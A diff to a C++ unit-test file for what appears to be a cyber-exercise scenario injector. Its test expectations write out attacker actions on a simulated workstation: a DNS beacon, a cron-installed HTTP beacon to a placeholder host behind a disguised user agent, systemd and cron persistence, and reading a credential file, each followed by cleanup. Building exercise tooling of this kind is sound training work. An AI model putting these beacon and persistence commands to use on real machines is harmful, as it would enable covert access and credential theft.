@@ -2,12 +2,14 @@
 #include "injector/actions/act.h"
 
 #include "scenario-dsl/attack/traces.h"
+#include "scenario-dsl/model/step_names.h"
 #include "scenario-dsl/source/digest.h"
 #include "tests/support/first_light.h"
 #include "tests/support/temp_directory.h"
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <functional>
 
 namespace enshu::inject {
@@ -18,8 +20,9 @@ using Argv = std::vector<std::string>;
 /// Every host is this one; it keeps what it was asked.
 class Scripted : public GuestChannel {
   public:
-    RunResult run(const Argv &argv, const std::string &, std::chrono::milliseconds) override {
+    RunResult run(const Argv &argv, const std::string &input, std::chrono::milliseconds) override {
         ran.push_back(argv);
+        inputs.push_back(input);
         return answer(argv);
     }
     std::string read(const std::string &path, std::chrono::milliseconds) override {
@@ -29,16 +32,23 @@ class Scripted : public GuestChannel {
                std::chrono::milliseconds) override {
         files[path] = content;
     }
-    /// The last call that has `word` in it.
+    /// The last call that has `word` in it, or in the script that it was handed.
     Argv last_with(const std::string &word) const {
-        for (auto each = ran.rbegin(); each != ran.rend(); ++each)
-            for (const std::string &one : *each)
-                if (one.find(word) != std::string::npos)
-                    return *each;
+        const auto has = [&](const std::string &one) {
+            return one.find(word) != std::string::npos;
+        };
+        for (auto i = ran.size(); i-- > 0;)
+            if (has(inputs[i]) || std::ranges::any_of(ran[i], has))
+                return ran[i];
         return {};
+    }
+    void forget() {
+        ran.clear();
+        inputs.clear();
     }
 
     std::vector<Argv> ran;
+    std::vector<std::string> inputs; ///< of each of them
     std::map<std::string, std::string> files;
     std::function<RunResult(const Argv &)> answer = [](const Argv &argv) {
         return RunResult{0, argv[0] == "/usr/bin/date" ? "1795230000\n" : "", "", false};
@@ -204,7 +214,7 @@ TEST_F(EntryActions, ABeaconThatAsksForNamesIsToldWhereTheNameServerIs) {
     EXPECT_EQ(Argv(ran.begin() + 5, ran.end()),
               (Argv{"/usr/lib/enshu/actor", "beacon", "--domain", "news.example", "--name-server",
                     "203.0.113.25:53", "--min-ms", "4000", "--max-ms", "7000", "--key",
-                    "/var/lib/enshu/lent/" + beacon_unit("names")}));
+                    "/var/lib/enshu/lent/" + dsl::unit_of("names")}));
     EXPECT_TRUE(leaves("names", "/var/log/unbound/queries.log", ".news.example. TXT"));
 }
 
@@ -216,12 +226,12 @@ TEST_F(EntryActions, ACrontabLineCallsTheSameBeaconAndIsTakenAwayAgain) {
                     "'http://198.51.100.66/a?b=100\\%25' --min-ms 4000 --max-ms 7000 --agent "
                     "'Mozilla/4.0 (compatible; UpdateAgent 1.3)' --proxy 203.0.113.25:3128 "
                     "--key /var/lib/enshu/lent/" +
-                        beacon_unit("beacon") + " >/dev/null 2>&1");
+                        dsl::unit_of("beacon") + " >/dev/null 2>&1");
     const Argv ran = guest_.ran.back();
     EXPECT_EQ(Argv(ran.begin(), ran.begin() + 2), (Argv{"/usr/bin/setpriv", "--reuid=suzuki"}))
         << "as somebody without root would";
     EXPECT_EQ(ran.back(), line);
-    guest_.ran.clear();
+    guest_.forget();
     takes_back("stay");
     EXPECT_EQ(guest_.last_with("crontab -r").back(), line);
     EXPECT_EQ(guest_.last_with("/usr/bin/pkill").back(),
@@ -245,11 +255,11 @@ TEST_F(EntryActions, ABeaconThatPersistsIsStartedAndStopsWithWhatStartsIt) {
     EXPECT_TRUE(play("beacon")["persists"].get<std::string>().starts_with("* * * * * "));
     EXPECT_TRUE(
         leaves("beacon", "/var/spool/cron/crontabs/suzuki", "http://198.51.100.66/news/update"));
-    guest_.ran.clear();
+    guest_.forget();
     takes_back("beacon");
     ASSERT_EQ(guest_.ran.size(), 4U);
-    EXPECT_EQ(guest_.ran[3], (Argv{"/usr/bin/rm", "-f", "--",
-                                   "/var/lib/enshu/lent/" + beacon_unit("beacon")}));
+    EXPECT_EQ(guest_.ran[3],
+              (Argv{"/usr/bin/rm", "-f", "--", "/var/lib/enshu/lent/" + dsl::unit_of("beacon")}));
     EXPECT_EQ(guest_.ran[2][0], "/usr/bin/systemctl")
         << "after the line, or what starts it again would have started it again";
 }
@@ -288,7 +298,33 @@ TEST_F(EntryActions, ACredentialIsReadAndStaysWhereItIs) {
     guest_.answer = [](const Argv &) {
         return RunResult{4, "", "/home/suzuki/memo.txt is no file that can be read\n", false};
     };
-    EXPECT_NE(failure("read").find("is no file that can be read"), std::string::npos);
+    EXPECT_EQ(failure("read"), "`pc-suzuki`: /home/suzuki/memo.txt is no file that can be read");
+}
+
+// ---- all of them
+
+TEST_F(EntryActions, AScriptBeginsInItsHomeAndIsInNoListOfProcesses) {
+    add("stick", dsl::UsbInsert{"pc-suzuki", "SUPPLIER", directory_.path() / "estimate.txt"});
+    add("stay", dsl::Persist{"pc-suzuki", "beacon", dsl::Persistence::Unit});
+    add("stay-by-cron", dsl::Persist{"pc-suzuki", "beacon", dsl::Persistence::Cron});
+    add("look", dsl::Discovery{"pc-suzuki", "gate"});
+    add("read", dsl::ReadCredential{"pc-suzuki", "/home/suzuki/memo.txt"});
+    for (const char *step : {"stick", "stay", "stay-by-cron", "look", "read"}) {
+        (void)failure(step);
+        takes_back(step);
+    }
+    int scripts = 0;
+    for (std::size_t i = 0; i < guest_.ran.size(); ++i) {
+        const Argv &ran = guest_.ran[i];
+        EXPECT_EQ(std::ranges::count(ran, "-c"), 0) << guest_.inputs[i];
+        if (std::ranges::count(ran, "/bin/sh") == 0)
+            continue;
+        const std::string home = ran[0] == "/bin/sh" ? "/root" : "/home/suzuki";
+        EXPECT_TRUE(guest_.inputs[i].starts_with("cd " + home + " || exit\n"));
+        EXPECT_TRUE(guest_.inputs[i].ends_with("\n} </dev/null\n"));
+        ++scripts;
+    }
+    EXPECT_EQ(scripts, 10);
 }
 
 } // namespace
